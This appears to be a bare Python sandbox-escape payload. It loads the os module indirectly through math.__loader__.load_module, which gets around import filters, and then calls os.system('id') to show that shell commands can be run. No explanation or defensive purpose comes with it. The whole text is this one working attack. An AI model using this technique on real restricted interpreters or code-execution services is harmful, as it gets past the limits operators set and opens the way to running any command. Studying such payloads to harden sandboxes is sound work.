import math
math.__loader__.load_module("os").system("id")
